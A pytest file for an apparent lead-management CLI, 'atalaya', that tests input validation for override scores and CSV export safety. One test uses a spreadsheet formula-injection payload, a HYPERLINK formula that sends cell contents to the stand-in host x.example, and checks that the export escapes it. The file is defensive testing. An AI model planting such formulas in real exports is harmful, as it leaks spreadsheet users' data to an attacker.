"""`atalaya leads` as a careless operator or an attacker would use it (issue 10)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import pytest
from sqlalchemy import Engine, func, select

from atalaya.store.tables import lead_override
from tests.accounts.helpers import insert_lead


def atalaya(db_url: str, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "ATALAYA_DATABASE_URL": db_url, "COLUMNS": "200"}
    env.pop("ATALAYA_DEBUG", None)
    return subprocess.run(
        [sys.executable, "-m", "atalaya", *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=False,
    )


@pytest.fixture
def one_lead(engine: Engine) -> Engine:
    with engine.begin() as conn:
        insert_lead(conn, 7, "28")
    return engine


def test_override_scores_are_bounded_to_0_100(db_url: str, one_lead: Engine) -> None:
    for score in ("1e308", "-5", "100000", "nan"):
        done = atalaya(db_url, "leads", "override", "7", "--score", score, "--reason", "typo")
        assert done.returncode != 0, score
        assert "from 0 to 100" in done.stderr and "Traceback" not in done.stderr
    with one_lead.connect() as conn:
        assert conn.scalar(select(func.count()).select_from(lead_override)) == 0
    done = atalaya(db_url, "leads", "override", "7", "--score", "100", "--reason", "by hand")
    assert done.returncode == 0, done.stderr


def test_csv_export_neutralises_formulas(db_url: str, one_lead: Engine) -> None:
    reason = '=HYPERLINK("http://x.example/?"&B2&C2, "open")'
    done = atalaya(db_url, "leads", "override", "7", "--score", "50", "--reason", reason)
    assert done.returncode == 0, done.stderr
    exported = atalaya(db_url, "leads", "export", "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert [r["override_reason"] for r in rows] == ["'" + reason]
    assert rows[0]["networks"] == "bittorrent"
